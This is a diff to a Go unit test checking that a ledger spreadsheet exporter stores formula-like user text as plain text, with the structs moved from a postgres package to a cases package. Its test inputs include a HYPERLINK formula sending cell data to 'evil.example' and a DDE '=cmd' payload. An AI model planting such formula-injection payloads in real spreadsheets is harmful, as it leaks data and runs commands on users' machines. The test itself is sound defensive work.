@@ -13,7 +13,6 @@ import (
 
 	"github.com/fangpin/fangpin/cases"
 	"github.com/fangpin/fangpin/cases/ledgerxlsx"
-	"github.com/fangpin/fangpin/cases/postgres"
 )
 
 // A text typed by a cadre or a department that begins like a formula stays text: the
@@ -21,15 +20,15 @@ import (
 // so that editing it in Excel does not turn it into a formula either.
 func TestLedgerFormulaLikeTextsStayText(t *testing.T) {
 	risky := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+86 138", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
-	a := postgres.Assessment{Month: "2026-11"}
+	a := cases.Assessment{Month: "2026-11"}
 	for i, r := range risky {
-		a.Cases = append(a.Cases, postgres.CaseFact{No: "YJ202611-000" + string(rune('1'+i)), Township: "城关镇", Village: r, HeadName: r,
+		a.Cases = append(a.Cases, cases.CaseFact{No: "YJ202611-000" + string(rune('1'+i)), Township: "城关镇", Village: r, HeadName: r,
 			Reason: r, Result: cases.ResultExclude, DispatchedAt: time.Date(2026, 11, 5, 9, 0, 0, 0, cases.Shanghai),
 			DueOn: cases.Date{Year: 2026, Month: 12, Day: 3}, Categories: []cases.Category{cases.Categories[0]}})
 	}
-	a.Cases = append(a.Cases, postgres.CaseFact{No: "YJ202611-0009", Township: "城关镇", Village: "东关村", HeadName: "张三",
+	a.Cases = append(a.Cases, cases.CaseFact{No: "YJ202611-0009", Township: "城关镇", Village: "东关村", HeadName: "张三",
 		DispatchedAt: time.Date(2026, 11, 5, 9, 0, 0, 0, cases.Shanghai), DueOn: cases.Date{Year: 2026, Month: 12, Day: 3}})
-	a.Townships = append(a.Townships, postgres.TownshipScore{Name: "=cmd|' /C calc'!A0"})
+	a.Townships = append(a.Townships, cases.TownshipScore{Name: "=cmd|' /C calc'!A0"})
 	var buf bytes.Buffer
 	if err := ledgerxlsx.Write(&buf, cases.MonthLedger{Assessment: a}); err != nil {
 		t.Fatal(err)
